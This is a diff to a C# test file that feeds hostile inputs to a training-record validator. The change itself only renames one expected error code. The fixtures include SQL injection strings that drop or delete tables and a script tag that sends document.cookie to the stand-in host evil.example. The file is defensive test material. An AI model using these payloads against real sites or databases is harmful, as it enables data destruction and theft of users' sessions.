@@ -105,7 +105,7 @@ public sealed class HostileCorpusTests
         Add("missing everything", new JsonObject(), "contract.required");
 
         Add("sql injection in completion", TrainingRecords.Valid(completion: "Robert'); DROP TABLE ai_training_examples; -- and then SELECT * FROM users WHERE '1'='1' for the bakery page."), "accepted");
-        Add("sql injection in id", TrainingRecords.Valid(id: "1' OR '1'='1"), "contract.pattern");
+        Add("sql injection in id", TrainingRecords.Valid(id: "1' OR '1'='1"), "contract.format");
         Add("sql injection in use case", TrainingRecords.Valid(useCase: "site.page.json'; DELETE FROM ai_data_contracts; --"), "contract.validValues");
         Add("html injection", TrainingRecords.Valid(completion: "<script>fetch('https://evil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)><p>Welcome to the bakery, fresh bread daily.</p>"), "accepted");
 
